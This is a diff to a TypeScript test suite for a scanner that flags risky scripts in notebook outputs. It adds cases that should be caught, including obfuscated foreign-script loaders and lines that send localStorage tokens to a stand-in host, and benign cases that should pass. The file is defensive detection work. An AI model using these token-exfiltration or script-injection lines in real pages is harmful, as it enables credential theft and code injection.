@@ -35,6 +35,7 @@ const lineOf = (text: string, word: string): number =>
   text.split('\n').findIndex((line) => line.includes(word)) + 1;
 
 const KERNEL = 'NOTEBOOK-OUTPUT-KERNEL';
+const FOREIGN = 'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT';
 const HTML = 'text/html';
 const SCRIPT = 'application/javascript';
 const encoded = (text: string): string => Buffer.from(text).toString('base64');
@@ -61,6 +62,24 @@ describe('a script in an output', () => {
     ],
     [SCRIPT, `eval(atob("${encoded('document.title = 1; alert(2)')}"))`, 'CODE-DECODE-EXECUTE'],
     [SCRIPT, 'require(["https://c.example.invalid/a.js"])', 'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT'],
+    [SCRIPT, 'require.config({ paths: { a: "https://c.example.invalid/a" } })', FOREIGN],
+    [SCRIPT, 'importScripts("https://c.example.invalid/a.js")', FOREIGN],
+    [SCRIPT, 'new Worker("https://c.example.invalid/a.js")', FOREIGN],
+    [SCRIPT, '$.getScript("https://c.example.invalid/a.js", draw)', FOREIGN],
+    [SCRIPT, 'var s = document.createElement("script"); s.src = "https://c.example.invalid/a.js"', FOREIGN],
+    [
+      SCRIPT,
+      'function f() { let s = document.createElement("scr" + "ipt"); s["src"] = "//c.example.invalid" }',
+      FOREIGN,
+    ],
+    [
+      SCRIPT,
+      'var s = document.createElement("script"); s.setAttribute("src", "//c.example.invalid/a")',
+      FOREIGN,
+    ],
+    [SCRIPT, `document.write('<scr' + 'ipt src="https://c.example.invalid/a.js"></scr' + 'ipt>')`, FOREIGN],
+    [SCRIPT, 'new Image().src = "https://c.example.invalid/?" + localStorage.getItem("token")', KERNEL],
+    [SCRIPT, 'window.location.href = "https://c.example.invalid/?" + localStorage.token', KERNEL],
     [HTML, '<p>1</p><script>\nIPython.notebook.kernel.execute("1")\n</script>', KERNEL],
     [
       HTML,
@@ -99,6 +118,11 @@ describe('a script in an output', () => {
   it.each([
     [SCRIPT, 'element.text("done"); localStorage.setItem("a", "b")'],
     [SCRIPT, 'fetch("/static/a.json", { method: "POST", body: JSON.stringify(localStorage) })'],
+    [SCRIPT, 'var s = document.createElement("script"); s.src = "https://cdn.plot.ly/plotly-2.js"; put(s)'],
+    [SCRIPT, 'require.config({ paths: { vega: "https://cdn.jsdelivr.net/npm/vega@5?noext", a: "./a" } })'],
+    [SCRIPT, 'var i = document.createElement("img"); i.src = "https://c.example.invalid/a.png"; put(i)'],
+    [SCRIPT, 'var i = new Image(); i.src = "/a.png?" + localStorage.theme; i.title = localStorage.theme'],
+    [SCRIPT, 'window.location.href = "https://example.invalid/docs"; localStorage.setItem("a", "b")'],
     [SCRIPT, 'setTimeout(function() { Plotly.newPlot("a", [{ "x": [1] }]) }, 10)'],
     [HTML, '<script type="application/json">{"a": "Jupyter.notebook.kernel.execute"}</script>'],
     [HTML, '<p>Jupyter.notebook.kernel.execute(1)</p><script>render()</script>'],
